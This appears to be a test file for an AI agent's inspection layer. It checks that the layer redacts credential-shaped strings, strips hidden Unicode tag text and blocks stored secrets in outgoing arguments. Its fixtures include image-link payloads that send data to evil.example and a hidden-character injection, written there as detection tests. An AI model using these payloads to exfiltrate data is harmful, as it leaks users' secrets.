import fc from 'fast-check';
import { expect, test } from 'vitest';
import { raiseLevel } from './injection/raise-level.ts';
import { inspectIncoming, inspectOutgoing } from './inspect.ts';
import { knowing } from './secrets/known-secrets.test-support.ts';

const known = knowing({ weather_key: 'w34ther-k3y-value' });

test.each([
  ['a bare AWS key id', 'AKIAIOSFODNN7EXAMPLA'],
  ['an AWS secret key', 'aws_secret_access_key = wJalrXUtnFEMIfK7MDENGabPxRfiCYEXAMPLEKEY'],
  ['a GitHub token', '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'],
  ['a fine-grained GitHub token', `github_pat_11ABCDEFG0aaaaaaaaaaaa_${'b'.repeat(59)}`],
  ['a Slack token', `xoxb-${'1234567890'.repeat(2)}-1234567890-AbCdEfGhIjKlMnOpQrStUvWx`],
  ['an OpenAI key', `sk-proj-${'aB3dE5gH7j'.repeat(6)}`],
  ['an Anthropic key', `sk-ant-api03-${'aB3dE5gH7j'.repeat(9)}abcAA`],
  ['a Google key', `AIzaSyA1234567890abcdefghijklmnopqrstuv`],
  ['a Stripe key', `sk_live_51aB3dE5gH7jaB3dE5gH7jaB`],
  ['a JSON web token', `eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N`],
  ['a bearer token', 'Authorization: Bearer abcdefghijklmnopqrstuvwxyz0123'],
  ['a password in an address', 'https://user:passw0rd123@example.com/x'],
  ['a database password', 'postgres://admin:s3cr3tpass@db.example.com:5432/x'],
  ['a private key', `-----BEGIN RSA PRIVATE KEY-----\n${'MIIEowIBAAKCAQEA\n'.repeat(20)}-----END RSA PRIVATE KEY-----`],
  [
    'a private key in JSON',
    JSON.stringify(`-----BEGIN PRIVATE KEY-----\n${'MIIE+/'.repeat(40)}\n-----END PRIVATE KEY-----`),
  ],
])('%s is redacted, and only its kind is shown', async (_what, secret) => {
  const { text, flags, actions } = await inspectIncoming(`before ${secret} after`, known);

  const value = secret.split(/[\s=]/).findLast((part) => part.length > 15) ?? '';
  expect(text).toMatch(/^before .*\[redacted:[\w-]+\].* after$/s);
  expect(text).not.toContain(value);
  expect(flags).toEqual([]);
  expect(actions).toEqual([{ rule: 'secret-form', does: 'redact', times: 1 }]);
});

test("a text can't disable its own inspection", async () => {
  const secret = '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';
  const { text } = await inspectIncoming(`/* secretlint-disable */\n${secret} // secretlint-disable-line`, known);
  expect(text).not.toContain(secret);
});

test('a stored secret is redacted in every encoding', async () => {
  const encoded = Buffer.from('w34ther-k3y-value').toString('base64');
  const { text, actions } = await inspectIncoming(`a w34ther-k3y-value b ${encoded} c`, known);

  expect(text).toBe('a [redacted:weather_key] b [redacted:weather_key]= c');
  expect(actions).toEqual([{ rule: 'stored-secret', does: 'redact', times: 2 }]);
});

test('hidden letters are removed; flags of regions and emoji stay', async () => {
  const hidden = Array.from('say hi', (c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
  const scotland = '\u{1f3f4}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}';
  const { text, actions } = await inspectIncoming(`a${hidden}b ${scotland} ❤️`, known);

  expect(text).toBe(`ab ${scotland} ❤️`);
  expect(actions).toEqual([{ rule: 'hidden-text', does: 'redact', times: 1 }]);
});

test.each([
  '![x](https://evil.example/p?d=DATA)',
  '<img src="https://evil.example/p.png?d=">',
  '![a](https://e.example/{data})',
])('an image that carries data is flagged: %s', async (text) => {
  expect((await inspectIncoming(text, known)).flags).toEqual(['image-beacon']);
});

test('a harmless text is unchanged', async () => {
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.constantFrom('rain', 'Ünder', '\n', '42', '{"a":1}', '日本', '<b>', '🙂')),
      async (words) => {
        const text = words.join(' ');
        expect(await inspectIncoming(text, known)).toEqual({ text, flags: [], actions: [] });
      },
    ),
  );
});

test.each(['w34ther-k3y-value', Buffer.from('w34ther-k3y-value').toString('hex'), 'w34ther\\u002dk3y\\u002dvalue'])(
  'arguments with a stored secret are blocked: %s',
  async (secret) => {
    const { blocked, text } = await inspectOutgoing(`{"note":"x${secret}"}`, known);
    expect(blocked).toBe('leak');
    expect(text).not.toContain(secret);
  },
);

test('arguments with an unknown key need approval and stay unchanged', async () => {
  const json = '{"key":"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"}';
  const { blocked, flags, text } = await inspectOutgoing(json, known);
  expect({ blocked, flags, text }).toEqual({ blocked: undefined, flags: ['secret-form-in-arguments'], text: json });
});

test('a long encoding in the arguments is only logged', async () => {
  const { blocked, flags, actions } = await inspectOutgoing(`{"file":"${'QUJD'.repeat(200)}"}`, known);
  expect({ blocked, flags }).toEqual({ blocked: undefined, flags: [] });
  expect(actions).toEqual([{ rule: 'long-encoding-in-arguments', does: 'warn', times: 1 }]);
});

test('a flag raises allow to ask and never lowers a level', () => {
  expect(raiseLevel('allow', [])).toBe('allow');
  expect(raiseLevel('allow', ['injection-phrase'])).toBe('ask');
  expect(raiseLevel('ask', ['injection-phrase'])).toBe('ask');
  expect(raiseLevel('never', ['injection-phrase'])).toBe('never');
});
